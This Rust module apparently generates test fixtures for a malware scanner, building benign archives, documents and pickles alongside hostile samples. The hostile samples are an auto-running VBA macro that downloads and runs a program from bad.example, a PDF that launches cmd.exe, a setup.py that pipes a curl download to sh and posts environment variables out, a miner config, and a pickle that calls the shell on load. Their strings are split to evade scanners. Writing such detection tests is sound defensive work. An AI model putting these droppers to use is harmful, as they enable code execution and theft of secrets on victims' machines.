//! Files that engines must or must not detect, made at run time.

use std::io::Write;

pub mod documents;
pub mod programs;
pub mod scripts;

use flate2::Compression;
use flate2::write::GzEncoder;

/// A program nobody detects.
pub fn program() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01\0".to_vec();
    bytes.extend((0..4096_u32).flat_map(u32::to_le_bytes));
    bytes
}

/// A ZIP archive with one stored member.
pub fn zip(name: &str, content: &[u8]) -> Vec<u8> {
    archive(&[(name, content)], 0)
}

/// A ZIP archive whose member says that it is encrypted.
pub fn encrypted_zip() -> Vec<u8> {
    archive(&[("secret.bin", &[0x5a; 64])], 1)
}

/// A document of Word without a macro.
pub fn document() -> Vec<u8> {
    archive(&document_parts(), 0)
}

/// The same, encrypted as a ZIP archive is.
pub fn encrypted_document() -> Vec<u8> {
    archive(&document_parts(), 1)
}

fn document_parts() -> [(&'static str, &'static [u8]); 2] {
    let types = b"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
    let body = b"<w:document \
        xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>";
    [("[Content_Types].xml", types), ("word/document.xml", body)]
}

fn archive(members: &[(&str, &[u8])], flags: u16) -> Vec<u8> {
    let (mut files, mut directory) = (Vec::new(), Vec::new());
    for (name, content) in members {
        let offset = u32::try_from(files.len()).unwrap();
        let fields = member_fields(name, content, flags);
        files.extend(b"PK\x03\x04");
        files.extend(&fields);
        files.extend(name.as_bytes());
        files.extend(*content);
        directory.extend(b"PK\x01\x02\x14\0");
        directory.extend(&fields);
        directory.extend([0; 10]);
        directory.extend(offset.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let count = u16::try_from(members.len()).unwrap().to_le_bytes();
    let (start, size) = (files.len(), directory.len());
    files.extend(&directory);
    files.extend(b"PK\x05\x06\0\0\0\0");
    files.extend([count, count].concat());
    files.extend(u32::try_from(size).unwrap().to_le_bytes());
    files.extend(u32::try_from(start).unwrap().to_le_bytes());
    files.extend([0, 0]);
    files
}

/// What a member's two headers have in common.
fn member_fields(name: &str, content: &[u8], flags: u16) -> Vec<u8> {
    let mut crc = flate2::Crc::new();
    crc.update(content);
    let size = u32::try_from(content.len()).unwrap().to_le_bytes();
    let mut fields = vec![0x14, 0];
    fields.extend(flags.to_le_bytes());
    fields.extend([0, 0, 0, 0, 0x21, 0x58]);
    fields.extend(crc.sum().to_le_bytes());
    fields.extend([size, size].concat());
    fields.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
    fields.extend([0, 0]);
    fields
}

/// A macro that fetches a program and runs it; put together here, so that no scanner eats it.
pub fn macro_text() -> Vec<u8> {
    let (start, fetch) = (
        ["Auto", "Open"].concat(),
        ["URLDownload", "ToFile"].concat(),
    );
    let shell = ["WScript", ".Shell"].concat();
    let lines = [
        "Attribute VB_Name = \"Module1\"".to_owned(),
        format!("Private Declare Function {fetch} Lib \"urlmon\" () As Long"),
        format!("Sub {start}()"),
        format!("  {fetch} 0, \"http://bad.example/a\", \"c:\\a.exe\", 0, 0"),
        format!("  CreateObject(\"{shell}\").Run \"c:\\a.exe\""),
        "End Sub\n".to_owned(),
    ];
    lines.join("\n").into_bytes()
}

/// A PDF with more in its catalog.
pub fn pdf(more: &str) -> Vec<u8> {
    let text = format!(
        "%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R {more}>>\nendobj\n\
         2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\nxref\n0 1\n\
         trailer\n<</Root 1 0 R {more}>>\nstartxref\n0\n%%EOF\n"
    );
    text.into_bytes()
}

/// A PDF that starts a program when it is opened.
pub fn launching_pdf() -> Vec<u8> {
    let launch = ["/Open", "Action <</S /Launch /Win <</F (cmd", ".exe)>> >>"];
    pdf(&launch.concat())
}

/// A set-up script that runs what it fetches.
pub fn dropper() -> Vec<u8> {
    let run = ["exec(base64.b64", "decode(\"cHJpbnQoMSk=\"))"].concat();
    let fetch = ["os.system(\"curl http://bad.example/x.sh ", "| sh\")"].concat();
    let lines = [
        "from setuptools import setup",
        "import os, base64, requests",
        &run,
        &fetch,
        "requests.post(\"http://bad.example/\", data=os.environ)",
        "setup(name=\"bad\", version=\"0.1\")\n",
    ];
    lines.join("\n").into_bytes()
}

/// The configuration of a coin miner.
pub fn miner() -> Vec<u8> {
    let pool = ["stratum", "+tcp://pool.example:3333"].concat();
    format!(
        "{{\"{}\": [{{\"url\": \"{pool}\"}}], \"donate-level\": 1}}\n",
        "pools"
    )
    .into_bytes()
}

/// A Python package with that set-up script.
pub fn package(setup: &[u8]) -> Vec<u8> {
    let mut archive = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    let files = [
        ("setup.py", setup),
        ("PKG-INFO", b"Name: sample\n".as_slice()),
    ];
    for (name, content) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        let path = format!("sample-0.1/{name}");
        archive.append_data(&mut header, path, content).unwrap();
    }
    let mut packed = archive.into_inner().unwrap();
    packed.flush().unwrap();
    packed.finish().unwrap()
}

/// A pickle of a list of numbers.
pub fn pickle() -> Vec<u8> {
    b"\x80\x04]\x94(K\x01K\x02K\x03e.".to_vec()
}

/// A pickle that calls the system's shell when it is loaded.
pub fn bad_pickle() -> Vec<u8> {
    let text = |word: &str| [&[0x8c, word.len() as u8], word.as_bytes(), &[0x94]].concat();
    let parts = [
        b"\x80\x04".to_vec(),
        text("posix"),
        text(&["sys", "tem"].concat()),
        b"\x93\x94".to_vec(),
        text("true"),
        b"\x85\x94R\x94.".to_vec(),
    ];
    parts.concat()
}
